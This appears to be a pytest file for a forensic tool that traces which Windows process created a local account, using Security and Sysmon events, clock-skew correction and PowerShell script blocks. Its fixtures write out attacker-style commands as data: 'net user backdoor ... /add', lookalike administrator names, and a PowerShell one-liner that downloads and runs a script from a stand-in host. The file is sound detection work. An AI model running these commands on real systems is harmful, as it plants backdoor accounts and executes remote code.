"""The causal model for the creating process, one rule per test, on in-memory stories.

Each story is an adversarial case from the field: a process recorded after the 4720, a
skewed Sysmon clock, wrapper chains, console hosts, in-process creators, near ties.
"""

from __future__ import annotations

import io

from acctrace.report import stats
from tests.stories import Story

NET = "C:\\Windows\\System32\\net.exe"
NET1 = "C:\\Windows\\System32\\net1.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CONHOST = "C:\\Windows\\System32\\conhost.exe"
WEVTUTIL = "C:\\Windows\\System32\\wevtutil.exe"
WMIC = "C:\\Windows\\System32\\wbem\\WMIC.exe"
OTHER_SESSION = "0x7777"


def only(story: Story):
    (finding,) = story.hunt().findings
    return finding


def images(processes) -> list[str]:
    return [p.image.rsplit("\\", 1)[-1] for p in processes]


# --- order by clock ------------------------------------------------------------------------


def test_a_process_recorded_after_the_4720_in_the_same_log_is_never_a_candidate() -> None:
    story = (
        Story()
        .process_4688(0x200, 0x4, CMD, "cmd.exe", ms=-20_000)
        .creation(ms=0)
        # Same millisecond, same Security log, later record: it cannot have created it.
        .process_4688(0x300, 0x200, NET, "net user backdoor x /add", ms=0)
    )
    f = only(story)
    assert f.process.image == CMD
    assert f.alternatives == []
    assert f.process.confidence < 0.5


def _twins(story: Story, skew_ms: float, count: int = 4) -> Story:
    """Processes of another session in both logs, Sysmon's clock `skew_ms` off."""
    for i in range(count):
        pid, ms = 0x1000 + 4 * i, -60_000 + 5_000 * i
        image = f"C:\\Windows\\System32\\svc{i}.exe"
        story.process_4688(pid, 0x4, image, image, ms=ms, logon=OTHER_SESSION)
        story.sysmon_1(f"T-{i}", "0-0", pid, image, image, ms=ms + skew_ms, logon=OTHER_SESSION)
    return story


def test_sysmon_times_are_ordered_with_the_skew_measured_on_process_twins() -> None:
    # Sysmon runs 2 s ahead. The creator's Sysmon 1 reads +1.9 s (really 0.1 s before); a
    # process that started 0.5 s after the creation reads +2.5 s: a fixed tolerance of a
    # few seconds would take both.
    story = (
        _twins(Story(), skew_ms=2_000)
        .sysmon_1("A-1", "0-0", 700, NET1, "net1 user backdoor x /add", ms=1_900)
        .sysmon_1("A-2", "0-0", 704, NET1, "net1 user backdoor y /add", ms=2_500)
        .creation(ms=0)
    )
    result = story.hunt()
    (f,) = result.findings
    assert f.process.process_guid == "A-1"
    assert f.alternatives == []
    (clock,) = result.clocks
    assert clock.pairs == 4 and clock.skew_ms == 2_000 and clock.tolerance_ms < 100
    out = io.StringIO()
    stats.render(result, out)
    assert "clock WS01.corp.local: Sysmon +2000.0 ms against Security, from 4 processes" in (
        out.getvalue()
    )


def test_a_sysmon_clock_behind_moves_events_the_other_way() -> None:
    # Sysmon runs 2 s behind: -1.5 s on its clock is 0.5 s after the creation.
    story = (
        _twins(Story(), skew_ms=-2_000)
        .sysmon_1("B-1", "0-0", 700, NET1, "net1 user backdoor x /add", ms=-2_300)
        .sysmon_1("B-2", "0-0", 704, NET1, "net1 user backdoor x /add", ms=-1_500)
        .creation(ms=0)
    )
    f = only(story)
    assert f.process.process_guid == "B-1"
    assert f.alternatives == []


def test_without_process_twins_the_clock_is_not_measured_and_stats_say_so() -> None:
    result = Story().process_4688(0x300, 0x4, NET1, "net1 user backdoor x /add", ms=-16).creation()
    result = result.hunt()
    (clock,) = result.clocks
    assert clock.pairs == 0 and clock.skew_ms is None


# --- the actor, not the wrapper ------------------------------------------------------------


def test_cmd_net_net1_names_net1_and_the_others_are_lineage() -> None:
    story = (
        Story()
        .process_4688(0x200, 0x100, CMD, "cmd /c net user backdoor x /add", ms=-60)
        .process_4688(0x300, 0x200, NET, "net  user backdoor x /add", ms=-40)
        .process_4688(
            0x304, 0x300, NET1, "C:\\Windows\\system32\\net1  user backdoor x /add", ms=-20
        )
        .creation()
    )
    f = only(story)
    assert f.process.image == NET1
    assert f.process.confidence >= 0.9
    assert f.alternatives == []
    assert [a.image for a in f.lineage[:2]] == [NET, CMD]


def test_a_wrapper_chain_four_deep_names_the_deepest_actor() -> None:
    story = (
        Story()
        .process_4688(0x100, 0x4, PS, 'powershell -c "cmd /c net user backdoor x /add"', ms=-90)
        .process_4688(0x200, 0x100, CMD, "cmd /c net user backdoor x /add", ms=-60)
        .process_4688(0x300, 0x200, NET, "net  user backdoor x /add", ms=-40)
        .process_4688(0x304, 0x300, NET1, "net1  user backdoor x /add", ms=-20)
        .creation()
    )
    f = only(story)
    assert f.process.image == NET1 and f.alternatives == []
    assert [a.image for a in f.lineage[:3]] == [NET, CMD, PS]


def test_when_the_worker_ended_before_the_creation_its_launcher_is_the_actor() -> None:
    story = (
        Story()
        .process_4688(0x300, 0x200, NET, "net  user backdoor x /add", ms=-40)
        .process_4688(0x304, 0x300, NET1, "net1  user backdoor x /add", ms=-20)
        .process_end_4689(0x304, ms=-10)  # recorded before the 4720: it did not create it
        .creation()
    )
    assert only(story).process.image == NET


def test_without_command_lines_the_tool_a_shell_started_is_the_actor() -> None:
    # Process creation audited without command lines: powershell -> net.exe -> net1.exe,
    # net1.exe running across the creation. The narrower tool did the work.
    story = (
        Story()
        .process_4688(0x100, 0x4, PS, None, ms=-2_400)
        .process_4688(0x300, 0x100, NET, None, ms=-400)
        .process_4688(0x304, 0x300, NET1, None, ms=-380)
        .creation()
        .process_end_4689(0x304, ms=40)
    )
    f = only(story)
    assert f.process.image == NET1 and f.alternatives == []
    assert [a.image for a in f.lineage[:2]] == [NET, PS]


def test_the_compiler_add_type_starts_is_passed_over_for_the_script_host() -> None:
    csc = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"
    story = (
        Story()
        .process_4688(0x100, 0x4, PS, "powershell -File add.ps1", ms=-3_000)
        .process_4688(0x200, 0x100, csc, "csc.exe /noconfig @x.cmdline", ms=-900)
        .creation()
        .process_end_4689(0x100, ms=2_000)
    )
    f = only(story)
    assert f.process.image == PS and images(f.alternatives) == []


# --- helpers never create accounts ---------------------------------------------------------


def test_a_console_host_of_an_unrelated_run_is_passed_over_for_the_live_script_host() -> None:
    story = (
        Story()
        .process_4688(
            0x100, 0x4, PS, "powershell.exe -ep bypass -File C:\\Users\\a\\s.ps1", ms=-30_000
        )
        .process_4688(0x200, 0x4, WEVTUTIL, "wevtutil qe Security /c:5", ms=-900)
        .process_4688(
            0x204, 0x200, CONHOST, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff", ms=-899
        )
        .creation()
        # After the creation the script checks the new account: it was alive across it.
        .process_4688(0x300, 0x100, NET, "net user backdoor", ms=400)
    )
    f = only(story)
    assert f.process.image == PS
    assert any("alive at the creation" in e for e in f.process.evidence)
    assert "conhost.exe" not in images(f.alternatives)
    assert "wevtutil.exe" not in images(f.alternatives)


def test_a_helper_name_outside_the_windows_folders_is_not_excused() -> None:
    story = (
        Story()
        .process_4688(0x200, 0x4, "C:\\Users\\Public\\conhost.exe", "conhost.exe", ms=-300)
        .creation()
    )
    assert only(story).process.image == "C:\\Users\\Public\\conhost.exe"


# --- liveness is evidence ------------------------------------------------------------------


def test_script_blocks_of_the_live_powershell_show_the_creation_and_its_text() -> None:
    script = (
        "$p = ConvertTo-SecureString 'Spr1ng!' -AsPlainText -Force; "
        "New-LocalUser -Name backdoor -Password $p"
    )
    cut = script.index("1ng!")  # the password is split across the two parts
    story = (
        Story()
        .process_4688(0x100, 0x4, PS, 'powershell -nop -c "IEX (iwr http://x/a.ps1)"', ms=-9_000)
        .process_4688(0x200, 0x4, "C:\\Tools\\sync.exe", "sync.exe", ms=-3_000)
        .script_block(0x100, -2_000, script[:cut], 1, 2)
        .script_block(0x100, -1_999, script[cut:], 2, 2)
        .creation()
    )
    f = only(story)
    assert f.process.image == PS and f.process.confidence >= 0.9
    assert "New-LocalUser -Name backdoor" in f.process.script
    assert "Spr1ng" not in f.model_dump_json() and "1ng!" not in f.process.script
    assert any("script block (4104)" in e for e in f.process.evidence)
    from acctrace.report import text

    assert "script: $p = " in text.block(f, False)  # the summary shows it too


def test_script_blocks_without_a_creation_command_still_raise_the_script_host() -> None:
    story = (
        Story()
        .process_4688(0x100, 0x4, PS, "powershell -File C:\\Temp\\tidy.ps1", ms=-9_000)
        .script_block(0x100, -2_000, "$s = Get-Service; $s | Out-Null")
        .creation()
        .process_end_4689(0x100, ms=500)
    )
    f = only(story)
    assert f.process.image == PS and f.process.script.startswith("$s = Get-Service")
    assert 0.5 <= f.process.confidence < 0.9


def test_a_script_host_known_alive_across_the_creation_outranks_one_that_may_have_ended() -> None:
    cscript = "C:\\Windows\\System32\\cscript.exe"
    story = (
        Story()
        .process_4688(0x100, 0x4, cscript, "cscript //nologo C:\\Temp\\inv.vbs", ms=-2_000)
        .process_4688(0x200, 0x4, PS, "powershell.exe -File C:\\Temp\\a.ps1", ms=-20_000)
        .creation()
        .process_end_4689(0x200, ms=800)  # powershell's end is recorded after the 4720
    )
    f = only(story)
    assert f.process.image == PS
    assert images(f.alternatives) == ["cscript.exe"]
    assert f.process.confidence > f.alternatives[0].confidence


def test_a_process_ended_before_the_creation_is_out_even_with_the_right_command() -> None:
    story = (
        Story()
        .process_4688(0x100, 0x4, "C:\\Tools\\mkuser.exe", "mkuser.exe backdoor", ms=-5_000)
        .process_4688(0x200, 0x4, NET1, "net1 user backdoor x /add", ms=-3_000)
        .process_end_4689(0x200, ms=-2_000)
        .creation()
    )
    f = only(story)
    assert f.process.image == "C:\\Tools\\mkuser.exe"
    assert f.alternatives == []


# --- long-running in-process creators ------------------------------------------------------

_MINUTES = 60_000  # ms


def test_a_powershell_open_for_minutes_that_runs_across_the_creation_is_its_creator() -> None:
    # .NET AccountManagement inside a PowerShell started 20 minutes earlier (far beyond the
    # 120 s window); a net.exe typed 10 minutes earlier with the very command, still
    # waiting at its password prompt, is an account tool far outside the window: no one.
    story = (
        Story()
        .process_4688(0x100, 0x4, PS, "powershell.exe -NoExit", ms=-20 * _MINUTES)
        .process_4688(0x200, 0x100, NET, "net  user backdoor * /add", ms=-10 * _MINUTES)
        .creation()
        .process_4688(0x300, 0x100, NET, "net  user backdoor", ms=600)  # the script checks it
    )
    f = only(story)
    assert f.process.image == PS and f.process.pid == 0x100
    assert any("alive at the creation" in e for e in f.process.evidence)
    assert images(f.alternatives) == []
    assert f.process.confidence < 0.5  # nothing but liveness shows what it ran


def test_a_long_running_script_host_must_be_shown_alive_to_be_a_candidate() -> None:
    ended = (
        Story()
        .process_4688(0x100, 0x4, PS, "powershell.exe -NoExit", ms=-20 * _MINUTES)
        .process_end_4689(0x100, ms=-5 * _MINUTES)
        .creation()
    )
    silent = Story().process_4688(0x100, 0x4, PS, "powershell.exe", ms=-20 * _MINUTES).creation()
    for story in (ended, silent):  # ended before it; or nothing shows it still ran
        f = only(story)
        assert f.process is None and f.alternatives == []


def test_a_long_running_script_host_never_outranks_the_account_tool_that_did_the_work() -> None:
    story = (
        Story()
        .process_4688(0x100, 0x4, PS, "powershell.exe -NoExit", ms=-30 * _MINUTES)
        .process_4688(0x200, 0x4, CMD, "cmd.exe", ms=-40_000)
        .process_4688(0x300, 0x200, NET, None, ms=-60)
        .process_4688(0x304, 0x300, NET1, None, ms=-40)
        .creation()
        .process_4688(0x400, 0x100, "C:\\Windows\\System32\\whoami.exe", "whoami", ms=900)
    )
    f = only(story)
    assert f.process.image == NET1
    assert all(a.confidence < f.process.confidence for a in f.alternatives)


def test_a_binary_from_outside_the_windows_folders_may_run_long_too() -> None:
    tool = "C:\\Users\\Public\\svchelper.exe"
    story = (
        Story()
        .process_4688(0x100, 0x4, tool, "svchelper.exe -q", ms=-45 * _MINUTES)
        .process_4688(0x200, 0x4, "C:\\Windows\\System32\\taskmgr.exe", "taskmgr", ms=-9 * _MINUTES)
        .creation()
        .process_end_4689(0x100, ms=700)
        .process_end_4689(0x200, ms=800)
    )
    f = only(story)
    assert f.process.image == tool and images(f.alternatives) == []


# --- names: a creation command about another account ---------------------------------------


def test_two_creations_in_one_session_seconds_apart_each_get_their_own_net1() -> None:
    second = {"TargetSid": "S-1-5-21-1-2-3-1002"}
    story = (
        Story()
        .process_4688(0x300, 0x200, NET1, "net1 user alpha x /add", ms=-20)
        .creation("alpha")
        .process_4688(0x304, 0x200, NET1, "net1 user beta x /add", ms=1_500)
        .creation("beta", ms=1_520, **second)
    )
    found = {f.account.name: f for f in story.hunt().findings}
    assert "alpha" in found["alpha"].process.command_line
    assert "beta" in found["beta"].process.command_line
    assert found["beta"].process.confidence >= 0.9
    assert all(a.confidence < 0.5 for a in found["beta"].alternatives)


# --- abstain honestly ----------------------------------------------------------------------


def test_a_near_tie_between_different_images_is_not_a_confident_pick() -> None:
    story = (
        Story()
        .process_4688(0x100, 0x4, WMIC, 'wmic useraccount call create name="backdoor"', ms=-900)
        .process_4688(
            0x200, 0x4, PS, "powershell -c New-LocalUser -Name backdoor -NoPassword", ms=-800
        )
        .creation()
    )
    f = only(story)
    assert f.process.confidence < 0.5
    assert len(f.alternatives) == 1 and f.alternatives[0].confidence < 0.5
    assert {*images([f.process]), *images(f.alternatives)} == {"WMIC.exe", "powershell.exe"}
    assert any("near tie" in e for e in f.process.evidence)


# --- names are evidence --------------------------------------------------------------------


def test_a_trailing_space_survives_to_every_view_and_the_name_is_a_lookalike() -> None:
    from acctrace.report import text

    story = (
        Story()
        .process_4688(0x300, 0x200, NET, 'net user "Administrator " x /add', ms=-20)
        .creation("Administrator ")
    )
    result = story.hunt()
    (f,) = result.findings
    assert f.account.name == "Administrator "  # byte for byte in the result document
    assert f.process.image == NET and f.process.confidence >= 0.9  # the command names it
    assert "lookalike_name" in {r.code for r in f.verdict.reasons}
    shown = text.block(f, False)
    assert "WS01\\Administrator\\x20" in shown


def test_invisible_characters_in_names_are_shown_as_escapes() -> None:
    from acctrace.report.casefile import qualified

    assert qualified("WS01", "Guest\u200b") == "WS01\\Guest\\u200b"
    assert qualified("WS01", "admin\u202e") == "WS01\\admin\\u202e"
    assert qualified("WS01", "Adm\u0456nistrator") == "WS01\\Adm\u0456nistrator"  # lookalike's job
